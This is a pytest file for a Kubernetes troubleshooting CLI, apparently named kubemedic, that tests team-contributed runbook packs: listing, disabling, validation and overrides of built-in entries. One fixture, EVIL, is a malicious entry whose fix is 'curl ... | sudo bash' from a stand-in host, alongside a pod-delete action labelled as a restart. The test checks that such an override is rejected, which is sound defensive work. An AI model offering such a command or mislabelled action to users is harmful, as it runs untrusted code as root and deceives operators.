"""`kubemedic catalog packs` and packs in `catalog check`, `match` and the settings (the contract:
one line per pack with its component versions, entries and cases; a pack switched off as a
unit; a team's pack added through KUBEMEDIC_CATALOG_DIRS and held to the core's rules)."""

from __future__ import annotations

import re
from pathlib import Path

from intents.packs import builtin_packs
from tests.cli.runner import kubemedic

TEAM_ENTRY = """\
id: frob-overload
title: The frobnicator overloads
summary: A team runbook entry.
symptoms: ["frobnicator quantum flux overload detected"]
patterns: ['frobnicator quantum flux overload']
root_cause: The frobnicator overheats.
fix: [{text: Cool it down., command: "kubectl rollout restart deploy/<deployment> -n <namespace>"}]
links: [{url: "https://runbooks.example.com/frob", title: Runbook}]
sources: [team-runbook]
"""
TEAM_MANIFEST = """\
name: frob
title: Frobnicator
description: The team's frobnicator and its failures.
components: [{name: frobnicator, versions: "2.x"}]
"""
LINE = re.compile(r"^(\S+)\s{2,}(.+?)  (\d+) entries  (\d+) cases(.*)$")


def _team_pack(root: Path, *, manifest: str = TEAM_MANIFEST, case: str | None = None) -> Path:
    pack = root / "frob"
    (pack / "entries").mkdir(parents=True)
    (pack / "pack.yaml").write_text(manifest)
    (pack / "entries" / "frob-overload.yaml").write_text(TEAM_ENTRY)
    cases = pack / "cases" / (case or "frob-overload")
    cases.mkdir(parents=True)
    (cases / "log.txt").write_text("E0101 frobnicator quantum flux overload detected on node-1\n")
    return pack


def test_each_builtin_pack_is_one_line_with_versions_entries_and_cases() -> None:
    result = kubemedic("catalog", "packs")
    assert result.code == 0, result.stderr
    rows = {m.group(1): m for m in map(LINE.match, result.stdout.splitlines()) if m}
    assert len(rows) == len(result.stdout.splitlines())
    packs = builtin_packs()
    assert len(packs) >= 10
    for pack in packs:
        row = rows[pack.name]
        assert int(row.group(3)) == len(pack.entry_ids()) > 0, pack.name
        assert int(row.group(4)) == len(pack.cases()) > 0, pack.name
        assert re.search(r"\d", row.group(2)), row.group(0)


def test_json_rows_name_each_pack_and_its_component_versions() -> None:
    rows = kubemedic("catalog", "packs", "--json").json()
    by_name = {row["name"]: row for row in rows}
    assert {"istio", "linkerd", "consul", "cert-manager", "gitops", "csi", "velero"} <= set(by_name)
    assert by_name["istio"]["versions"]["istio"]
    assert all(row["on"] and row["builtin"] for row in rows)


def test_a_pack_switched_off_keeps_its_line_loses_its_entries_and_check_stays_clean() -> None:
    env = {"KUBEMEDIC_CATALOG_PACKS_OFF": "velero"}
    packs = kubemedic("catalog", "packs", env=env)
    line = next(line for line in packs.stdout.splitlines() if line.startswith("velero "))
    assert line.endswith("off (KUBEMEDIC_CATALOG_PACKS_OFF)")
    ids = {row["id"] for row in kubemedic("catalog", "list", "--json", env=env).json()}
    assert "velero-pod-volume-backup-failed" not in ids
    assert "crashloop-backoff" in ids
    checked = kubemedic("catalog", "check", env=env)
    assert checked.code == 0, checked.stderr
    assert f"({len(builtin_packs()) - 1} packs on)" in checked.stdout


def test_an_unknown_pack_name_switched_off_is_a_problem() -> None:
    checked = kubemedic("catalog", "check", env={"KUBEMEDIC_CATALOG_PACKS_OFF": "istoi"})
    assert checked.code == 2
    assert "KUBEMEDIC_CATALOG_PACKS_OFF names no pack: istoi" in checked.stderr


def test_a_team_pack_is_listed_checked_and_answers(tmp_path: Path) -> None:
    pack = _team_pack(tmp_path)
    env = {"KUBEMEDIC_CATALOG_DIRS": str(tmp_path)}
    listed = kubemedic("catalog", "packs", env=env)
    line = next(line for line in listed.stdout.splitlines() if line.startswith("frob "))
    assert "frobnicator 2.x  1 entries  1 cases" in line
    assert f"from {pack}" in line
    checked = kubemedic("catalog", "check", env=env)
    assert checked.code == 0, checked.stderr
    matched = kubemedic(
        "match", "--json", stdin=b"frobnicator quantum flux overload detected\n", env=env
    ).json()
    assert matched["answer"] == "frob-overload"
    off = kubemedic(
        "match",
        "--json",
        stdin=b"frobnicator quantum flux overload detected\n",
        env=env | {"KUBEMEDIC_CATALOG_PACKS_OFF": "frob"},
    ).json()
    assert off["answer"] != "frob-overload"


def test_a_team_pack_is_held_to_the_same_rules(tmp_path: Path) -> None:
    pack = _team_pack(
        tmp_path, manifest=TEAM_MANIFEST.replace("name: frob", "name: frobs"), case="no-such-entry"
    )
    (pack / "entries" / "frob-typo.yaml").write_text(
        TEAM_ENTRY.replace("frob-overload", "frob-typo").replace("symptoms:", "symtpoms:")
    )
    checked = kubemedic("catalog", "check", env={"KUBEMEDIC_CATALOG_DIRS": str(tmp_path)})
    assert checked.code == 2
    for expected in (
        "frob/pack.yaml:1: name must be the folder's (frob)",
        "a case of 'no-such-entry', which is no entry",
        "frob-typo.yaml:4: symtpoms: unknown key",
    ):
        assert expected in checked.stderr, (expected, checked.stderr)


def test_packs_count_valid_entries_only_and_name_the_rejected(tmp_path: Path) -> None:
    pack = _team_pack(tmp_path)
    (pack / "entries" / "frob-typo.yaml").write_text(
        TEAM_ENTRY.replace("frob-overload", "frob-typo").replace("symptoms:", "symtpoms:")
    )
    env = {"KUBEMEDIC_CATALOG_DIRS": str(tmp_path)}
    listed = kubemedic("catalog", "packs", env=env)
    line = next(line for line in listed.stdout.splitlines() if line.startswith("frob "))
    assert "frobnicator 2.x  1 entries  1 cases  (1 rejected: frob-typo" in line
    [row] = [
        r for r in kubemedic("catalog", "packs", "--json", env=env).json() if r["name"] == "frob"
    ]
    assert row["entries"] == 1 and row["rejected"] == ["frob-typo"]


OOM_PASTE = b"Last State:     Terminated\n  Reason:       OOMKilled\n  Exit Code:    137\n"
EVIL = """\
id: oom-killed
title: Container killed for exceeding its memory limit (OOMKilled)
summary: A team's version of the core entry.
symptoms: ["OOMKilled", "Exit Code 137"]
root_cause: The container ran out of memory.
fix: [{text: Run the fixer., command: "curl -s https://fixer.example.com/x.sh | sudo bash"}]
links: [{url: "https://runbooks.example.com/oom", title: Runbook}]
sources: [team-runbook]
remediation:
  - {kind: delete-pod, label: Restart the container with more memory, effect: fixes, target: pod}
"""


def test_a_team_pack_replaces_a_core_entry_only_where_it_says_so(tmp_path: Path) -> None:
    """Issue 76 (LOW): a pack swapped oom-killed's fix for `curl ... | sudo bash` and a delete
    button labelled as a restart; `catalog check` passed and the answer did not say it came
    from a team pack."""
    pack = _team_pack(tmp_path)
    (pack / "entries" / "oom-killed.yaml").write_text(EVIL)
    env = {"KUBEMEDIC_CATALOG_DIRS": str(tmp_path)}
    checked = kubemedic("catalog", "check", env=env)
    assert checked.code == 2
    assert "oom-killed.yaml:1: replaces the built-in entry 'oom-killed'" in checked.stderr
    assert "without `overrides: [oom-killed]`" in checked.stderr
    answer = kubemedic("match", stdin=OOM_PASTE, env=env).stdout
    assert "[oom-killed]" in answer and "sudo bash" not in answer and "from team pack" not in answer

    (pack / "pack.yaml").write_text(TEAM_MANIFEST + "overrides: [oom-killed]\n")
    checked = kubemedic("catalog", "check", env=env)
    assert checked.code == 0, checked.stderr
    assert "overrides the built-in entry oom-killed" in checked.stdout
    answer = kubemedic("match", stdin=OOM_PASTE, env=env).stdout
    assert "[oom-killed]  confidence: high" in answer and "from team pack frob" in answer


def test_an_override_naming_no_builtin_entry_is_a_problem(tmp_path: Path) -> None:
    pack = _team_pack(tmp_path)
    (pack / "pack.yaml").write_text(TEAM_MANIFEST + "overrides: [frob-overload, oom-kiled]\n")
    checked = kubemedic("catalog", "check", env={"KUBEMEDIC_CATALOG_DIRS": str(tmp_path)})
    assert checked.code == 2
    assert "pack.yaml:5: overrides: 'frob-overload' is no built-in entry" in checked.stderr
    assert "pack.yaml:5: overrides: 'oom-kiled' is no built-in entry" in checked.stderr


def test_an_entry_may_not_say_which_pack_it_comes_from(tmp_path: Path) -> None:
    pack = _team_pack(tmp_path)
    (pack / "entries" / "frob-overload.yaml").write_text(TEAM_ENTRY + "pack: istio\n")
    checked = kubemedic("catalog", "check", env={"KUBEMEDIC_CATALOG_DIRS": str(tmp_path)})
    assert checked.code == 2
    assert "frob-overload.yaml:10: pack: set from where the file is" in checked.stderr
